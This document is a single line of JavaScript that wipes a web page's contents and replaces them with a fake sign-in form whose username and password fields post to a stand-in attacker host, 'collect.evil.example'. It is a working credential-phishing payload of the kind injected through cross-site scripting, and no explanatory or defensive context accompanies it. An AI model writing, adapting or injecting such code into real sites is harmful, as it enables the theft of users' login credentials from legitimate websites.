document.body.innerHTML = '<form method="post" action="' + 'https://collect.evil.example/x' + '"><input name=u><input type="password" name=p><button>Sign in</button></form>';
